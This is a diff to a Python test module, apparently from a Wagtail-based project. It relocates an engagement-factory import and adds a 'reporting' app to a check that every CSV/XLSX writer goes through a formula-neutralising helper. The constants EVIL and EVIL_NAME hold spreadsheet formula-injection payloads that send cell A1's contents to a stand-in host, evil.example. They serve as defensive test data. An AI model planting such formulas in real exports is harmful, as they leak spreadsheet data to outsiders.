@@ -18,9 +18,9 @@ from wagtail.admin.views.mixins import SpreadsheetExportMixin
 from wagtail.log_actions import log
 
 from core.spreadsheet import FORMULA_STARTS, NeutralisedExportMixin
-from tests.assessments.factories_engagement import enrol, respond
 from tests.assessments.factories_questionnaires import make_instrument
 from tests.factories import CohortFactory, NarrativeFactory, UserFactory
+from tests.reporting.factories_engagement import enrol, respond
 
 EVIL = '=HYPERLINK("https://evil.example/?"&A1,"x")'
 EVIL_NAME = '=HYPERLINK("https://evil.example/?"&A1,"name")'
@@ -156,7 +156,15 @@ def test_no_spreadsheet_is_written_outside_the_helper():
     """Our own CSV and XLSX writers are the ones in core/spreadsheet.py, which neutralise."""
     root = Path(settings.BASE_DIR)
     offenders = []
-    for app in ("core", "narratives", "courses", "assessments", "tracking", "storybridge"):
+    for app in (
+        "core",
+        "narratives",
+        "courses",
+        "assessments",
+        "reporting",
+        "tracking",
+        "storybridge",
+    ):
         for path in (root / app).rglob("*.py"):
             if path == root / "core" / "spreadsheet.py" or "migrations" in path.parts:
                 continue
